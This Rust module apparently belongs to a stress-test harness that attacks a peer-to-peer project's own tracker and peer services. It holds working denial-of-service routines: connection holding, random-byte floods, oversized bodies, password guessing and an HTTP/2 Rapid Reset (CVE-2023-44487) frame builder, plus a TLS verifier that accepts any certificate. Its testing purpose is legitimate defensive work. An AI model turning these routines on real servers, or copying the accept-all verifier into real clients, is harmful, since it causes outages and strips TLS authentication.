//! The attacks of strangers and of a hostile member, one at a time.

use std::collections::VecDeque;
use std::io::{self, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use peernet_engine::random::Rng;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::ring;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName, UnixTime};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme, StreamOwned};
use serde_json::Value;

/// Connections that one attacker holds open, doing nothing.
const HELD: usize = 100;
/// No attack waits longer for an answer.
const PATIENCE: Duration = Duration::from_millis(300);
/// The start of an HTTP/2 connection, with empty settings (RFC 9113, sections 3.4 and 6.5).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// The processes under attack.
pub(super) struct Targets {
    pub(super) tracker: SocketAddr,
    pub(super) peer: SocketAddr,
}

/// One thread's attacks.
pub(super) struct Attacker<'a> {
    targets: &'a Targets,
    stranger: Arc<ClientConfig>,
    member: Arc<ClientConfig>,
    rng: Rng,
    held: VecDeque<TcpStream>,
}

type Secured = StreamOwned<ClientConnection, TcpStream>;

impl<'a> Attacker<'a> {
    /// `home` is the folder of the account that the hostile member has.
    pub(super) fn new(targets: &'a Targets, home: &Path, number: u64) -> io::Result<Self> {
        let text = std::fs::read_to_string(home.join("certificate.json"))?;
        let stored: Value = serde_json::from_str(&text).map_err(io::Error::other)?;
        let certificate = stored["certificate"].as_str().unwrap_or_default();
        let certificate = CertificateDer::from_pem_slice(certificate.as_bytes()).map_err(io::Error::other)?;
        let key = PrivateKeyDer::from_pem_slice(&std::fs::read(home.join("identity-key.pem"))?);
        let member = config()?.with_client_auth_cert(vec![certificate], key.map_err(io::Error::other)?);
        let stranger = config()?.with_no_client_auth();
        let [stranger, member] = [Ok(stranger), member].map(|made| made.map_err(io::Error::other).map(over_http_2));
        Ok(Self { targets, stranger: stranger?, member: member?, rng: Rng::new(number + 1), held: VecDeque::new() })
    }

    /// One of all kinds, drawn at random.
    pub(super) fn attack(&mut self) -> io::Result<()> {
        let (tracker, peer) = (self.targets.tracker, self.targets.peer);
        match self.rng.below(14) {
            0 => self.hold(tracker, b""),
            1 => self.hold(peer, b""),
            2 => self.hold(tracker, &[22, 3, 1, 2, 0, 1]),
            3 => self.hold(peer, &[22, 3, 1, 2, 0, 1]),
            4 => self
                .hold(tracker, b"POST /api/v1/swarm/announce HTTP/1.1\r\nHost: t\r\nContent-Length: 4000000\r\n\r\n[["),
            5 => self.noise(tracker),
            6 => self.noise(peer),
            7 => self.request(tracker, "/api/v1/peers/login", br#"{"peer_id":"x","password":"guess"}"#),
            8 => self.request(tracker, "/api/v1/peers/register", br#"{"protocol":2,"password":"p","csr":"nonsense"}"#),
            9 => self.request(tracker, "/api/v1/swarm/announce", &vec![b'['; 200_000]),
            10 => self.secured_noise(tracker, false),
            11 => self.secured_noise(peer, false),
            12 => self.rapid_reset(peer),
            _ => self.secured_noise(peer, true),
        }
    }

    fn hold(&mut self, to: SocketAddr, begin: &[u8]) -> io::Result<()> {
        let mut stream = connect(to)?;
        stream.write_all(begin)?;
        self.held.push_back(stream);
        if self.held.len() > HELD {
            self.held.pop_front();
        }
        Ok(())
    }

    fn bytes(&mut self, most: u64) -> Vec<u8> {
        (0..self.rng.below(most)).map(|_| self.rng.next_u64() as u8).collect()
    }

    fn noise(&mut self, to: SocketAddr) -> io::Result<()> {
        let mut stream = connect(to)?;
        stream.write_all(&self.bytes(4_000))?;
        read_some(&mut stream)
    }

    fn request(&mut self, to: SocketAddr, path: &str, body: &[u8]) -> io::Result<()> {
        let mut stream = connect(to)?;
        let length = body.len();
        write!(stream, "POST {path} HTTP/1.1\r\nHost: t\r\nContent-Length: {length}\r\n\r\n")?;
        stream.write_all(body)?;
        read_some(&mut stream)
    }

    /// Completes a handshake and then sends something other than the protocol. Ends without a farewell.
    fn secured_noise(&mut self, to: SocketAddr, as_member: bool) -> io::Result<()> {
        let mut stream = self.secured(to, as_member)?;
        stream.write_all(PREFACE)?;
        stream.write_all(&self.bytes(4_000))?;
        read_some(&mut stream)
    }

    /// CVE-2023-44487: streams that are opened and reset at once.
    fn rapid_reset(&mut self, to: SocketAddr) -> io::Result<()> {
        let mut stream = self.secured(to, true)?;
        let mut frames = PREFACE.to_vec();
        for id in (1..400_u32).step_by(2) {
            // HEADERS of the one field `:method: POST`, its end; then RST_STREAM.
            frames.extend([0, 0, 1, 1, 4]);
            frames.extend(id.to_be_bytes());
            frames.push(0x83);
            frames.extend([0, 0, 4, 3, 0]);
            frames.extend(id.to_be_bytes());
            frames.extend([0, 0, 0, 8]);
        }
        stream.write_all(&frames)?;
        read_some(&mut stream)
    }

    fn secured(&self, to: SocketAddr, as_member: bool) -> io::Result<Secured> {
        let config = if as_member { &self.member } else { &self.stranger };
        let name = ServerName::try_from("tracker.peernet").map_err(io::Error::other)?;
        let session = ClientConnection::new(Arc::clone(config), name).map_err(io::Error::other)?;
        Ok(StreamOwned::new(session, connect(to)?))
    }
}

fn connect(to: SocketAddr) -> io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&to, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

fn read_some(stream: &mut impl io::Read) -> io::Result<()> {
    stream.read(&mut [0; 4_096]).map(drop)
}

fn config() -> io::Result<rustls::ConfigBuilder<ClientConfig, rustls::client::WantsClientCert>> {
    let provider = Arc::new(ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions();
    Ok(config.map_err(io::Error::other)?.dangerous().with_custom_certificate_verifier(Arc::new(Anybody)))
}

fn over_http_2(mut config: ClientConfig) -> Arc<ClientConfig> {
    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    Arc::new(config)
}

/// A client that does not check the server's certificate.
#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
